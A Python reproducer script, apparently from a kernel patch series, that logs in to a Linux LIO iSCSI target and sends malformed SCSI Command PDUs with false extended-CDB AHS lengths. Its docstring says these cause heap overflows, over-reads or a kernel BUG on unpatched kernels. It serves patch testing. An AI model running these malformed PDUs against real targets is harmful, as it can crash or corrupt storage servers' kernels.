#!/usr/bin/env python3
"""Send LIO a SCSI Command whose extended-CDB AHS lies about its length.

Reproducer for upstream/0002-scsi-target-iscsi-validate-extended-cdb-ahs-length.patch.
It logs in to TARGET at PORTAL with this project's PDU-level initiator
(initiator/iscsi_initiator), sends one READ with an AHS of type 1
(RFC 7143 section 11.2.2.3) and prints what the target did:

  zero     AHSLength 0 in a 20-byte AHS (the VM test's first case).
           Stock 6.1: kmalloc(15), then a 16-byte and a SIZE_MAX memcpy:
           a heap overflow. Stock 6.12: FORTIFY_SOURCE stops the first
           memcpy, a BUG in the connection's RX thread.
  overrun  AHSLength 200 in a 20-byte AHS (the VM test's second case).
           Stock 6.1 and 6.12 copy 199 bytes from an AHS of 16: a heap
           read past LIO's header buffer.
  varlen   A VARIABLE LENGTH CDB (0x7f) saying 260 bytes, AHSLength 1 in
           a 4-byte AHS. Stock 6.1 and 6.12: target_cmd_init_cdb() copies
           260 bytes from a 16-byte kmalloc.

With the patch LIO answers "zero" and "overrun" with a Reject (reason
0x04, protocol error) and "varlen" with CHECK CONDITION, ILLEGAL REQUEST,
INVALID FIELD IN CDB, and the connection keeps working. cxgbit-ext's
offloaded path drops the connection after a Reject 0x04 for the first
two (it never hands LIO the PDU) and passes "varlen" on to LIO.

Run it only against a test target: on a stock kernel it corrupts or
oopses the target host's kernel. Example:

  upstream/reproducers/extended_cdb_ahs.py 198.18.1.1 iqn.2026-11.org.cxgbit-ext:pdu --case zero
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import common
from common import describe

from iscsi_initiator.pdu import Op, Pdu, nop_out, scsi_command
from iscsi_initiator.session import Connection, ConnectionClosed

AHSTYPE_EXTENDED_CDB = 1
BLOCK = 512
READ10 = struct.pack(">BBIBHB", 0x28, 0, 0, 0, 1, 0)
# VARIABLE LENGTH CDB, service action READ(32), additional CDB length 252: 260 bytes in all
VARLEN260 = bytes([0x7F, 0, 0, 0, 0, 0, 0, 252, 0, 0x09]) + bytes(6)


def extended_cdb_ahs(ahs_length: int, spill: bytes) -> bytes:
    """An AHS of type 1: AHSLength, AHSType, reserved, then ``spill``."""
    return ahs_length.to_bytes(2, "big") + bytes([AHSTYPE_EXTENDED_CDB, 0]) + spill


CASES: dict[str, tuple[bytes, bytes]] = {
    "zero": (READ10, extended_cdb_ahs(0, bytes(16))),
    "overrun": (READ10, extended_cdb_ahs(200, bytes(16))),
    "varlen": (VARLEN260, extended_cdb_ahs(1, b"")),
}


def malformed_command(c: Connection, cdb: bytes, ahs: bytes) -> Pdu:
    p = scsi_command(cdb, itt=c.next_itt(), cmdsn=c.cmdsn, expstatsn=c.expstatsn, read_len=BLOCK)
    p.ahs = ahs  # encode() sets TotalAHSLength from it
    return p


def took_it(rsp: Pdu) -> str | None:
    return None if rsp.opcode in (Op.REJECT, Op.SCSI_RSP) else "it took the command"


def alive(c: Connection, wait: float) -> str:
    """Does the connection still answer a NOP-Out?"""
    c.sock.settimeout(wait)
    itt = c.next_itt()
    try:
        c.send(nop_out(itt=itt, cmdsn=c.cmdsn, expstatsn=c.expstatsn))
        while True:
            rsp = c.recv()
            if rsp.opcode == Op.NOOP_IN and rsp.itt == itt:
                return "the connection still answers a NOP-Out"
    except (ConnectionClosed, ConnectionError):
        return "the target dropped the connection"
    except TimeoutError:
        return f"no answer to a NOP-Out within {wait:g} s (check the target's kernel log)"


def main(argv: list[str] | None = None) -> int:
    ap = common.parser(__doc__)
    ap.add_argument("--case", choices=sorted(CASES), default="zero")
    ap.add_argument("--wait", type=float, default=5, help="seconds to wait for each answer")
    args = ap.parse_args(argv)

    host, port = args.portal
    cdb, ahs = CASES[args.case]
    c = Connection(host, port)
    c.login(args.initiator, args.target)
    p = malformed_command(c, cdb, ahs)
    print(f"sending a READ with CDB {cdb[:16].hex()} and AHS {ahs.hex()} (TotalAHSLength {len(ahs)})")
    c.send(p)
    c.cmdsn += 1
    c.sock.settimeout(args.wait)
    try:
        print("target:", describe(c.recv(), took_it))
    except (ConnectionClosed, ConnectionError):
        print("target: dropped the connection")
        return 0
    except TimeoutError:
        print(f"target: no answer within {args.wait:g} s")
    print("then:", alive(c, args.wait))
    c.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
